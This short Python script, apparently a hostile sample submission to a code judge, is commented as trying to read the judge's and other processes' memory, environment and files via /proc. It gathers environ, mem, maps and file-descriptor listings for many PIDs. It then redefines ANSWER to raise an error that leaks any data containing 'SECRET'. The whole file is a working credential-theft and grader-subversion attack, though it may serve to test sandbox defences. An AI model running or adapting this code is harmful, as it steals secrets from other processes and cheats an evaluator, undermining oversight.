# tries to: read the judge's and every other process's memory, environment and files in /proc
import os

LOOT = []
PIDS = [str(PREY["pid"]), "self", str(os.getppid()), *map(str, range(1, 200))]
for pid in PIDS:
    for name in ("environ", "cmdline", "maps", "mem", "stack", "auxv", "status"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                LOOT.append(file.read(10**6))
        except OSError:
            pass
    for name in ("cwd", "root", "exe", "fd", "map_files"):
        try:
            LOOT.append(repr(os.listdir(f"/proc/{pid}/{name}")).encode())
        except OSError:
            pass


def ANSWER(*args, **kwargs):
    raise RuntimeError([loot[:200] for loot in LOOT if b"SECRET" in loot][:5])
